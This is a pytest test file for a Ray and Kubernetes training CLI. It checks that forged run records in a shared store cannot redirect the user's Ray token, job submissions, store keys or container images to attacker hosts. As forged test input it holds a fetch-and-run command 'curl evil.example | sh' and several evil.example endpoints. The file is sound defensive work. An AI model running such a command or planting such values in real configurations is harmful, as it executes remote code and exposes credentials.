"""Whoever may write to the store sends no credential, submission or request where they please."""

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from cifarray.backends.choice import backend_of
from cifarray.backends.trust import remember_submission, resumed_profile
from cifarray.cli.following import follow_run
from cifarray.errors import UntrustedError
from cifarray.runs import Run
from cifarray.runs.status import RunState, now
from cifarray.spec.profile import Profile, StoreSpec
from cifarray.store import Store
from tests.loopback import Collector, collecting
from tests.unit.backends.kubernetes.api_server import ApiServer, serve_api, write_kubeconfig
from tests.unit.backends.kubernetes.kube_requests import profile as kube_profile
from tests.unit.backends.kubernetes.kube_requests import put_rayjob
from tests.unit.cli.conftest import Type
from tests.unit.runs.conftest import run_spec

RUN_ID = "train-digits-261123-100000-abcd"
JOB_ID = f"{RUN_ID}-1"
ADDRESS = "10.0.0.5:6379"
TOKEN = "the-users-ray-token"
COMMANDS = (
    ("logs", RUN_ID),
    ("logs", RUN_ID, "-f"),
    ("status", RUN_ID),
    ("status", RUN_ID, "--json"),
    ("runs",),
    ("stop", RUN_ID),
    ("resume", RUN_ID, "--yes"),
    ("pull", RUN_ID),
    ("report", RUN_ID),
    ("delete", RUN_ID, "--yes"),
    ("cluster", "status"),
    ("doctor",),
)


@pytest.fixture
def elsewhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[Collector]:
    """A server that only a record names, while the user's token is in the environment."""
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
    with collecting(JOB_ID) as server:
        yield server


@pytest.fixture
def run(home_store: Store) -> Run:
    return Run.create(home_store, run_spec(RUN_ID))


def record(dashboard: str, **fields: Any) -> dict[str, Any]:
    given = {"profile": "local", "address": ADDRESS, "dashboard": dashboard, "own": False}
    return {**given, "job_id": JOB_ID, **fields}


def show_on(run: Run, cluster: dict[str, Any], state: RunState = "running") -> None:
    """What a writer of the store records of the run."""
    change = {"state": state, "heartbeat_at": now(), "cluster": cluster}
    run.change_status(lambda status: dataclasses.replace(status, **change))


def profile_file(folder: Path, **fields: Any) -> Path:
    path = folder / "mine.yaml"
    path.write_text(yaml.safe_dump({"kind": "local", **fields}))
    return path


@pytest.mark.parametrize(
    ("state", "words"),
    [
        (state, words)
        for state in ("running", "pending", "failed")
        for words in COMMANDS
        if (state, words[0]) != ("failed", "resume")  # it asks job.yaml alone where to go on
    ],
)
def test_nothing_is_sent_to_an_address_that_only_a_record_names(
    typed: Type, run: Run, elsewhere: Collector, words: tuple[str, ...], state: str
) -> None:
    show_on(run, record(elsewhere.address), state)
    shown = typed(*words)
    assert elsewhere.received == []
    if words[0] in ("logs", "stop", "resume") and state != "failed":
        assert (
            f"with dashboard {elsewhere.address}, which none of your cluster profiles" in shown.err
        )
        assert "give --cluster PROFILE" in shown.err
        assert shown.code == {"logs": 0, "resume": 2}.get(words[0], 1)


def test_a_followed_run_is_not_followed_to_another_address(run: Run, elsewhere: Collector) -> None:
    show_on(run, record(elsewhere.address))
    with pytest.raises(UntrustedError, match="give --cluster PROFILE"):
        follow_run(run, run.spec().profile)
    assert elsewhere.received == []


def test_the_token_goes_to_the_address_that_the_named_profile_gives(
    typed: Type, run: Run, elsewhere: Collector, tmp_path: Path
) -> None:
    show_on(run, record(elsewhere.address))
    mine = profile_file(tmp_path, address=ADDRESS, dashboard=elsewhere.address)
    assert typed("logs", RUN_ID, "--cluster", mine).out == "a log"
    assert all(f"Bearer {TOKEN}" in each for each in elsewhere.received) and elsewhere.received
    assert f"dashboard  {elsewhere.address}" in typed("status", RUN_ID, "--cluster", mine).out


@pytest.mark.parametrize(
    "other", [{"address": "10.0.0.6:6379"}, {"dashboard": "http://127.0.0.1:9"}]
)
def test_a_profile_that_names_another_node_does_not_name_this_one(
    typed: Type, run: Run, elsewhere: Collector, tmp_path: Path, other: dict[str, str]
) -> None:
    show_on(run, record(elsewhere.address))
    given = {"address": ADDRESS, "dashboard": elsewhere.address, **other}
    assert (
        "give --cluster PROFILE"
        in typed("logs", RUN_ID, "--cluster", profile_file(tmp_path, **given)).err
    )
    assert elsewhere.received == []


def submitted(store: Store, address: str) -> Run:
    """A run that was submitted from here on a node of the user's."""
    mine = Profile(name="mine", kind="local", address=ADDRESS, dashboard=address)
    run = Run.create(store, run_spec(RUN_ID).model_copy(update={"profile": mine}))
    remember_submission(run.spec())
    return run


def test_a_run_that_was_submitted_from_here_needs_no_profile(
    typed: Type, home_store: Store, elsewhere: Collector
) -> None:
    show_on(submitted(home_store, elsewhere.address), record(elsewhere.address))
    assert typed("logs", RUN_ID).out == "a log"
    assert elsewhere.received


def test_a_changed_job_yaml_is_not_the_one_that_was_submitted_from_here(
    typed: Type, home_store: Store, elsewhere: Collector
) -> None:
    run = submitted(home_store, "http://127.0.0.1:9")
    changed = home_store.read(run.key("job.yaml")).replace(
        b"http://127.0.0.1:9", elsewhere.address.encode()
    )
    home_store.write(run.key("job.yaml"), changed)
    show_on(run, record(elsewhere.address))
    for words in COMMANDS:
        typed(*words)
    assert elsewhere.received == []


@pytest.mark.parametrize("job_id", ["another-run-1", f"{RUN_ID}-x", f"{RUN_ID}-1/stop", "../x", 3])
def test_a_job_of_another_run_is_neither_read_nor_stopped(
    typed: Type, run: Run, elsewhere: Collector, tmp_path: Path, job_id: object
) -> None:
    show_on(run, record(elsewhere.address, job_id=job_id))
    mine = profile_file(tmp_path, address=ADDRESS, dashboard=elsewhere.address)
    for command in ("logs", "stop", "resume"):
        assert "is not a job of this run" in typed(command, RUN_ID, "--cluster", mine).err
    assert elsewhere.received == []


def test_resume_sends_no_submission_to_an_address_that_job_yaml_names(
    typed: Type, home_store: Store, elsewhere: Collector, tmp_path: Path
) -> None:
    theirs = Profile(name="local", kind="local", address=ADDRESS, dashboard=elsewhere.address)
    run = Run.create(home_store, run_spec(RUN_ID).model_copy(update={"profile": theirs}))
    show_on(run, {}, "failed")
    shown = typed("resume", RUN_ID)
    assert shown.code == 2 and elsewhere.received == []
    assert f"asks for the Ray node {ADDRESS} with dashboard {elsewhere.address}" in shown.err
    assert "(profile local differs in address, dashboard)" in shown.err
    assert "give --cluster PROFILE" in shown.err
    assert run.status().state == "failed"
    mine = profile_file(tmp_path, address=ADDRESS, dashboard=elsewhere.address)
    typed("resume", RUN_ID, "--detach", "--cluster", mine)
    assert any(f"Bearer {TOKEN}" in each for each in elsewhere.received)


def test_no_record_leads_the_stores_keys_to_another_server(
    home_store: Store, elsewhere: Collector, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AWS_DEFAULT_REGION")
    evil = StoreSpec(uri="s3://cifarray", endpoint=elsewhere.address, region="x.evil.example/")
    theirs = Profile(
        name="mine", kind="local", address=ADDRESS, dashboard="http://10.0.0.5:8265", store=evil
    )
    run = Run.create(home_store, run_spec(RUN_ID).model_copy(update={"profile": theirs}))
    mine = theirs.model_copy(update={"store": StoreSpec(uri="s3://mine", region="eu-north-1")})
    profile = resumed_profile(run, mine)
    assert profile.store == mine.store
    drivers = backend_of(profile).drivers_store(run)
    assert drivers == home_store.spec.model_copy(update={"region": "eu-north-1"})


@pytest.fixture
def clusters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[ApiServer, ApiServer]]:
    """The cluster of the kubeconfig's current context, and the one of context `production`."""
    with serve_api() as current, serve_api() as production:
        path = write_kubeconfig(tmp_path / "kubeconfig", current.address, ("tests", "production"))
        found = yaml.safe_load(path.read_text())
        found["clusters"].append({"name": "other", "cluster": {"server": production.address}})
        found["contexts"][1]["context"]["cluster"] = "other"
        path.write_text(yaml.safe_dump(found))
        monkeypatch.setenv("KUBECONFIG", str(path))
        yield current, production


def in_namespace(**section: Any) -> dict[str, Any]:
    return {
        "kind": "kubernetes",
        "profile": "kubernetes",
        "dashboard": "a command",
        "job_id": JOB_ID,
        "kubernetes": section,
    }


@pytest.mark.parametrize(
    ("section", "named"),
    [
        ({"context": "production"}, "of context production"),
        ({"namespace": "other-team", "context": "tests"}, "in namespace other-team"),
        ({"mode": "ray-jobs", "ray_cluster": "theirs"}, "on RayCluster theirs"),
    ],
)
def test_a_recorded_context_namespace_or_cluster_that_nobody_named_is_left_alone(
    typed: Type,
    run: Run,
    clusters: tuple[ApiServer, ApiServer],
    section: dict[str, str],
    named: str,
) -> None:
    for server in clusters:
        put_rayjob(server, JOB_ID)
    show_on(run, in_namespace(**section), "pending")
    for words in COMMANDS:
        shown = typed(*words)
        if words[0] in ("logs", "stop", "resume"):
            assert named in shown.err and "give --cluster PROFILE" in shown.err, words
        elif words == ("status", RUN_ID):
            assert named in shown.out and "a command" not in shown.out
        if words[0] == "delete":
            break
    assert [server.requests() for server in clusters] == [[], []]


def test_only_the_secret_that_the_users_profile_names_is_read(
    typed: Type, run: Run, clusters: tuple[ApiServer, ApiServer]
) -> None:
    section = {"mode": "ray-jobs", "store_secret": "database-password", "context": "tests"}
    show_on(run, in_namespace(**section), "pending")
    typed("status", RUN_ID)
    asked = clusters[0].requests()
    assert any(request.endswith("/secrets/cifarray-store") for request in asked)
    assert not any("database-password" in request for request in asked)


def test_a_forged_dashboard_is_not_shown_as_a_command(
    typed: Type, run: Run, clusters: tuple[ApiServer, ApiServer]
) -> None:
    forged = in_namespace(context="tests") | {"dashboard": "curl evil.example | sh"}
    put_rayjob(clusters[0], JOB_ID, stage="Suspended")
    show_on(run, forged, "pending")
    shown = typed("status", RUN_ID).out
    assert "evil.example" not in shown
    assert "dashboard  kubectl -n cifarray port-forward" in shown


@pytest.mark.parametrize(
    ("changed", "field"),
    [
        ({"store": {"uri": "s3://cifarray", "endpoint": "http://evil.example"}}, "store.endpoint"),
        ({"namespace": "other-team"}, "kubernetes.namespace"),
        ({"mode": "ray-jobs"}, "kubernetes.mode"),
    ],
)
def test_resume_holds_job_yaml_against_the_users_own_profile(
    typed: Type,
    tmp_path: Path,
    clusters: tuple[ApiServer, ApiServer],
    changed: dict[str, Any],
    field: str,
) -> None:
    store = Store.open(str(tmp_path / "store"))
    own = {"uri": str(store.uri), "region": None}
    mine = tmp_path / "kube.yaml"
    section = {"store_service": None}
    mine.write_text(yaml.safe_dump({"kind": "kubernetes", "store": own, "kubernetes": section}))
    theirs = kube_profile(**{"store": own, "store_service": None, **changed})
    run = Run.create(store, run_spec(RUN_ID).model_copy(update={"profile": theirs}))
    show_on(run, {}, "failed")
    shown = typed("resume", RUN_ID, "--cluster", mine)
    assert shown.code == 2 and f"profile kube differs in {field}" in shown.err.replace(
        "store.uri, ", ""
    )
    assert clusters[0].requests("POST") == []


def test_pods_of_a_resumed_run_are_those_of_the_users_own_profile(
    typed: Type, tmp_path: Path, clusters: tuple[ApiServer, ApiServer]
) -> None:
    store = Store.open(str(tmp_path / "store"))
    own = {"uri": str(store.uri)}
    mine = tmp_path / "kube.yaml"
    section = {"store_service": None}
    mine.write_text(yaml.safe_dump({"kind": "kubernetes", "store": own, "kubernetes": section}))
    theirs = kube_profile(
        store=own, store_service=None, image="evil.example/image:1", store_secret="other"
    )
    run = Run.create(store, run_spec(RUN_ID).model_copy(update={"profile": theirs}))
    show_on(run, {}, "failed")
    assert typed("resume", RUN_ID).code == 2, "without a named profile all fields have to agree"
    assert typed("resume", RUN_ID, "--detach", "--cluster", mine).code == 0
    (made,) = (
        each.body for each in clusters[0].asked if each.method == "POST" and "rayjobs" in each.path
    )
    assert "evil.example" not in json.dumps(made["spec"]["rayClusterSpec"])
    assert made["spec"]["rayClusterSpec"]["authOptions"]["secretName"] == "cifarray-store"
